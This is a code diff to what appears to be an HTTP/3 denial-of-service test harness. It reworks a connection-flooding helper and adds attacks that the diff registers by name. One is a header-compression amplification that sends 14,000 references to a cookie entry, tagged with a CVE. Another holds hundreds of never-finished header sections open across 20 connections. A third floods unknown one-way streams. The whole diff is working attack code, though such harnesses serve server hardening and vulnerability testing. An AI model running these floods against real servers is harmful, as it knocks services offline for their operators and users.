@@ -8,23 +8,18 @@ from quic import stream_frame, varint
 CANCELLED = 0x10C
 
 
-def pace(session):
-    """Gives the server time to answer; nothing of a flood is resent, so nothing should be lost."""
-    session.pump(0.005)
-
-
-def flood(run, batch, connections=1, **how):
+def flood(run, batch, **how):
     """`batch(session, n)`: frames, again and again, on one connection and then on the next."""
     while run.on():
         session = h3.connect(run, **how)
         count = 0
         while session is not None and run.on() and session.send(batch(session, count)):
-            pace(session)
+            session.pump(0.005)  # nothing is resent, so nothing should be lost
             count += 1
         if session is not None:
-            session.pump(0.05)
+            session.pump(0.02)
             session.close()
-        run.pause(0.05)
+        run.pause(0.02)
 
 
 def hold(run, sessions):
@@ -92,6 +87,13 @@ def trailer_bomb(run):
     flood(run, each(lambda session, stream: session.ask(stream, ask), 2), encoder=ONE_FIELD)
 
 
+@attack("h3-cookie-crumbs", "h3", "H3-01, CVE-2026-47774", "requests with 14,000 references to a cookie's crumb")
+def cookie_crumbs(run):
+    ask = referring(h3.request(), 14000)
+    flood(run, each(lambda session, stream: session.ask(stream, ask), 5),
+          encoder=h3.CAPACITY_4096 + h3.insert(b"cookie", b"a=b"))
+
+
 @attack("h3-large-heads", "h3", "H3-01", "requests with 15 KB of new fields")
 def large_heads(run):
     ask = h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request() + b"".join(
@@ -119,6 +121,19 @@ zero_window("h3-zero-window-fields", "F2, H2-05", "the same, each with 32 KiB of
 zero_window("h3-zero-window-ranges", "F2, H2-05", "the same, each for 16 ranges", 20,
             referring(h3.request(b"/big.bin"), 1),
             h3.CAPACITY_4096 + h3.insert(b"range", over_h2.SIXTEEN_RANGES))
+
+
+@attack("h3-slow-heads", "h3", "H1-15", "100 requests each on 20 connections whose field section never ends")
+def slow_heads(run):
+    ask = varint(h3.HEADERS) + varint(1000) + h3.NO_REFERENCES + h3.request()
+
+    def connect():
+        session = h3.connect(run)
+        if session is not None:
+            for stream in streams(session, 100):
+                session.send(session.ask(stream, ask, fin=False))
+        return session
+    hold(run, run.many(20, connect))
 
 
 @attack("h3-blocked", "h3", "H3-02", "requests that wait for a field that never comes, 100 each on 20 connections")
@@ -156,10 +171,11 @@ def priority_updates(run):
 
 @attack("h3-one-way-streams", "h3", "H3-05", "one-way streams of unknown types")
 def one_way_streams(run):
-    def batch(session, count):
-        first = 14 + 4 * 5 * count
-        return [stream_frame(first + 4 * i, 0, varint(0x21), True) for i in range(5)]
-    flood(run, batch)
+    def batch(session, _count):
+        opened = range(getattr(session, "opened", 1), session.one_way)
+        session.opened = session.one_way
+        return [stream_frame(2 + 4 * i, 0, varint(0x21), True) for i in opened] or [b"\x01"]
+    flood(run, batch, alone=True)
 
 
 @attack("h3-stop-ignored", "h3", "A5", "bodies that go on although the server has said STOP_SENDING")
